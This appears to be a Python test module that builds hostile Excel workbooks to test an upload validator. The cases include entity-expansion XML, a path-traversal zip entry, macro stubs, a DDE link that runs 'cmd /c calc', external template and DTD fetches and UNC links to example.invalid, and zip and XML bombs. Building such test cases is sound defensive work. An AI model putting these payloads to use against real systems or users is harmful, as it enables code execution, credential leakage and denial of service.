"""Workbooks as nobody should send them."""

import io
import zipfile
from functools import cache

from helpers.attacks.listing import attack
from helpers.attacks.zips import CSV, Entry, archive, datamatch, deflated
from helpers.files import Week, patched, raw_xlsx, xlsx, zip_crypto

BOOK, MACRO_BOOK = "report.xlsx", "report.xlsm"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEET, STYLES, TYPES = "xl/worksheets/sheet1.xml", "xl/styles.xml", "[Content_Types].xml"
WORKBOOK, WORKBOOK_RELS, SHEET_RELS = (
    "xl/workbook.xml",
    "xl/_rels/workbook.xml.rels",
    "xl/worksheets/_rels/sheet1.xml.rels",
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
DOCTYPE = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'


@cache
def workbook():
    """A legitimate address report."""
    return xlsx(Week(20).grids["address-sharer"])


def with_parts(parts, data=None):
    """A workbook with parts put in, replaced, or taken out (None)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data or workbook())) as source, zipfile.ZipFile(out, "w", 8) as target:
        held = {name: source.read(name) for name in source.namelist()} | parts
        for name, part in held.items():
            if part is not None:
                target.writestr(name, part)
    return out.getvalue()


def with_relation(kind, target, rels=SHEET_RELS, outside=True):
    mode = ' TargetMode="External"' if outside else ""
    relation = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    return with_parts({rels: f'<Relationships xmlns="{PACKAGE}">{relation}</Relationships>'})


def changed(part, old, new):
    return BOOK, patched(workbook(), part, old, new)


def rows(inside):
    return BOOK, raw_xlsx(inside)


@attack
def workbook_that_is_none():
    return BOOK, CSV


@attack
def workbook_that_is_an_ordinary_zip():
    return BOOK, archive(Entry())


@attack
def workbook_without_its_list_of_sheets():
    return BOOK, with_parts({WORKBOOK: None})


@attack
def workbook_that_is_a_document():
    return changed(TYPES, b"spreadsheetml.sheet.main", b"wordprocessingml.document.main")


@attack
def workbook_that_climbs_out_of_its_folder():
    return BOOK, with_parts({"xl/../../evil.xml": b"<x/>"})


@attack
def workbook_with_a_part_twice():
    return BOOK, with_parts({SHEET.upper(): b"<x/>"})


@attack
def workbook_with_encrypted_parts():
    with zipfile.ZipFile(io.BytesIO(workbook())) as package:
        return BOOK, zip_crypto({name: package.read(name) for name in package.namelist()})


@attack
def workbook_with_entities():
    return changed(SHEET, b"<worksheet", DOCTYPE + b"<worksheet")


@attack
def workbook_with_entities_in_utf_16():
    with zipfile.ZipFile(io.BytesIO(workbook())) as package:
        text = (DOCTYPE + package.read(STYLES)).decode()
    return BOOK, with_parts({STYLES: text.encode("utf-16")})


@attack
def workbook_with_entities_in_utf_16_without_a_mark():
    text = '<?xml version="1.0" encoding="UTF-16BE"?>' + DOCTYPE.decode() + "<styleSheet/>"
    return BOOK, with_parts({STYLES: text.encode("utf-16-be")})


@attack
def workbook_with_entities_after_a_long_remark():
    return changed(SHEET, b"<worksheet", b"<!--" + b" - " * 30_000 + b"-->" + DOCTYPE + b"<worksheet")


@attack
def workbook_with_entities_in_a_picture():
    return BOOK, with_parts({"xl/media/image1.png": b"\r\n " + DOCTYPE + b"<x/>"})


@attack
def workbook_with_a_doctype_from_outside():
    return changed(TYPES, b"<Types", b'<!DOCTYPE Types SYSTEM "http://example.invalid/a.dtd"><Types')


@attack
def workbook_in_another_encoding_than_it_says():
    return changed(SHEET, b"<worksheet", b'<?xml version="1.0" encoding="UTF-16"?><worksheet')


@attack
def workbook_in_an_odd_encoding():
    return changed(SHEET, b"<worksheet", b'<?xml version="1.0" encoding="UTF-7"?><worksheet')


@attack
def workbook_with_a_part_that_is_no_xml():
    return BOOK, with_parts({STYLES: b"PNG"})


@attack
def workbook_with_a_nul():
    return changed(SHEET, b"<sheetData>", b"<sheetData>\0")


@attack
def workbook_with_macros():
    return BOOK, with_parts({"xl/vbaProject.bin": OLE + bytes(2000)})


@attack
def macro_workbook_with_macros():
    return MACRO_BOOK, with_parts({"xl/vbaProject.bin": OLE + bytes(2000)})


@attack
def workbook_with_macros_under_another_name():
    return BOOK, with_relation("vbaProject", "media/image1.png", WORKBOOK_RELS, outside=False)


@attack
def workbook_that_says_it_has_macros():
    return changed(TYPES, b"officedocument.spreadsheetml.sheet.main", b"x.sheet.macroEnabled.main")


@attack
def workbook_with_a_macro_sheet():
    return BOOK, with_parts({"xl/macrosheets/sheet1.xml": b"<x/>"})


@attack
def workbook_with_a_macro_sheet_by_its_kind():
    return changed(TYPES, b"spreadsheetml.worksheet+xml", b"spreadsheetml.macrosheet+xml")


@attack
def workbook_with_links_to_workbooks():
    return BOOK, with_parts({"xl/externalLinks/externalLink1.xml": b"<externalLink/>"})


@attack
def workbook_with_dde():
    return BOOK, with_parts({"xl/any.xml": b'<x:ddeLink xmlns:x="y" ddeService="cmd" ddeTopic="/c calc"/>'})


@attack
def workbook_with_an_embedded_file():
    return BOOK, with_parts({"xl/embeddings/oleObject1.bin": OLE})


@attack
def workbook_with_an_embedded_program():
    return BOOK, with_parts({"xl/printerSettings/printerSettings1.bin": b"MZ\x90\0"})


@attack
def workbook_with_an_embedded_zip():
    return BOOK, with_parts({"xl/media/image1.png": datamatch()})


@attack
def workbook_with_an_object_on_a_sheet():
    return changed(
        SHEET, b"<pageMargins", b'<oleObjects><oleObject progId="Package"/></oleObjects><pageMargins'
    )


@attack
def workbook_with_active_x():
    return BOOK, with_parts({"xl/activeX/activeX1.xml": b"<ax/>"})


@attack
def workbook_with_a_data_connection():
    return BOOK, with_parts({"xl/connections.xml": b"<connections/>"})


@attack
def workbook_with_a_query():
    return BOOK, with_parts({"xl/queryTables/queryTable1.xml": b"<queryTable/>"})


@attack
def workbook_with_power_query():
    text = '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
    return BOOK, with_parts({"customXml/item1.xml": text.encode("utf-16")})


@attack
def workbook_with_a_script():
    return BOOK, with_parts({"customXml/item1.xml": b"<a><SCRIPT>x()</SCRIPT></a>"})


@attack
def workbook_with_buttons():
    return BOOK, with_parts({"customUI/customUI14.xml": b"<customUI/>"})


@attack
def workbook_with_an_add_in():
    return BOOK, with_parts({"xl/webextensions/webextension1.xml": b"<x/>"})


@attack
def workbook_that_fetches_a_picture():
    return BOOK, with_relation("image", "http://example.invalid/pixel.png")


@attack
def workbook_that_fetches_a_template():
    return BOOK, with_relation("attachedTemplate", "http://example.invalid/t.xltm")


@attack
def workbook_with_a_link_to_a_server():
    return BOOK, with_relation("hyperlink", "file:///\\\\example.invalid\\share\\a.exe")


@attack
def workbook_with_a_link_to_a_share():
    return BOOK, with_relation("hyperlink", "\\\\example.invalid\\share")


@attack
def workbook_with_a_link_to_a_program():
    return BOOK, with_relation("hyperlink", "ms-excel:ofe|u|http://example.invalid/a.xlsx")


@attack
def workbook_with_a_link_that_is_called_inside():
    return BOOK, with_relation("worksheet", "file://example.invalid/a.xml", outside=False)


@attack
def workbook_with_a_row_below_the_last():
    return rows('<row r="1048577"><c r="A1048577"><v>1</v></c></row>')


@attack
def workbook_with_a_cell_past_the_last_column():
    return rows('<row r="1"><c s="0" r = \'XFE1\'><v>1</v></c></row>')


@attack
def workbook_with_a_cell_behind_a_sham():
    return rows('<row r="1"><c x=" r=&quot;A1&quot; &gt;" y=\' r="A1">\' r="XFE1"><v>1</v></c></row>')


@attack
def workbook_with_a_prefix_and_a_cell_past_the_last_column():
    return rows('<x:row xmlns:x="y" r="1"><x:c r="AAAA1"/></x:row>')


@attack
def workbook_with_wide_rows():
    return rows("".join(f'<row r="{row}"><c r="XFD{row}"><v>1</v></c></row>' for row in range(1, 2001)))


@attack
def workbook_with_wide_rows_that_say_another_row():
    return rows('<row><c r="XFD1"><v>1</v></c></row>' * 2000)


@attack
def workbook_with_many_long_sheets():
    last = b'<worksheet><sheetData><row r="1048576"><c><v>1</v></c></row></sheetData></worksheet>'
    return BOOK, with_parts({f"xl/worksheets/sheet{number}.xml": last for number in range(1, 11)})


@attack
def workbook_with_deep_xml():
    return rows("<a>" * 100_000 + "</a>" * 100_000)


@attack
def workbook_with_deep_xml_that_looks_flat():
    return rows('<a x="/>">' * 100_000 + "</a>" * 100_000)


@attack
def workbook_with_a_million_attributes():
    return rows("<a " + " ".join(f'a{number}=""' for number in range(50_000)) + "/>")


@attack
def workbook_with_a_text_without_end():
    return rows("<row><c t='inlineStr'><is><t>" + "a" * 2_000_000 + "</t></is></c></row>")


@attack
def workbook_with_a_row_without_end():
    return rows("<row>" + "<c/>" * 2_100_000 + "</row>")


@attack
def workbook_with_comments_without_end():
    return rows("<!---->" * 100_001)


@attack
def workbook_that_claims_too_many_texts():
    return BOOK, with_parts({"xl/sharedStrings.xml": b'<sst count="1" uniqueCount="4000000000"><si/></sst>'})


@attack
def workbook_with_one_cell_merged_over_all():
    merged = b'<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells><pageMargins'
    return changed(SHEET, b"<pageMargins", merged)


@attack
def workbook_with_a_link_over_all():
    linked = b'<hyperlinks><hyperlink location="A1" ref="A1:XFD1048576"/></hyperlinks><pageMargins'
    return changed(SHEET, b"<pageMargins", linked)


@attack
def workbook_that_lists_a_sheet_often():
    sheet = b'<sheet name="Sheet1" sheetId="1" state="visible" r:id="rId1" />'
    return changed(WORKBOOK, sheet, sheet * 500)


@attack
def workbook_whose_sheets_are_one():
    sheet = (
        f'<Relationship Type="{OFFICE}/worksheet" Target="worksheets/../worksheets/sheet1.xml" Id="rId7" />'
    )
    return changed(WORKBOOK_RELS, b"</Relationships>", sheet.encode() + b"</Relationships>")


@attack
def workbook_whose_sheets_are_one_of_an_unknown_kind():
    part = f'<Relationship Type="{OFFICE}/anything" Target="/xl/worksheets/SHEET1.xml" Id="rId7" />'
    return changed(WORKBOOK_RELS, b"</Relationships>", part.encode() + b"</Relationships>")


@attack
def workbook_with_two_lists_of_sheets():
    other = b'<Override PartName="/xl/w.xml" ContentType="%s.template.main+xml"/></Types>'
    kind = b"application/vnd.openxmlformats-officedocument.spreadsheetml"
    return changed(TYPES, b"</Types>", other % kind)


@attack
def workbook_with_entities_behind_empty_blocks():
    """A picture, as it is called, whose first 64 KB unpack to nothing."""
    text = DOCTYPE + b"<x/>"
    empty = b"\0\0\0\xff\xff" * 20_000
    return BOOK, with_entry(Entry(name="xl/a.png", data=text, packed=empty + deflated(text)))


@attack
def workbook_with_too_many_sheets():
    sheets = "".join(
        f'<sheet name="{number}" sheetId="{number}" r:id="r{number}" />' for number in range(1001)
    )
    return changed(WORKBOOK, b"</sheets>", sheets.encode() + b"</sheets>")


@attack
def workbook_bomb():
    return BOOK, with_parts({SHEET: b"<worksheet>" + b"<row/>" * 3_000_000 + b"</worksheet>"})


@attack
def workbook_that_unpacks_to_more_than_it_says():
    text = b"<x>" + b" " * 500_000 + b"</x>"
    return BOOK, with_entry(Entry(name="xl/a.xml", data=text[:100], packed=deflated(text)))


@attack
def workbook_with_a_wrong_check_sum():
    return BOOK, with_entry(Entry(name="xl/a.xml", data=b"<x/>", packed=deflated(b"<y/>")))


def with_entry(entry):
    with zipfile.ZipFile(io.BytesIO(workbook())) as package:
        held = [Entry(name=name, data=package.read(name)) for name in package.namelist()]
    return archive(*held, entry)
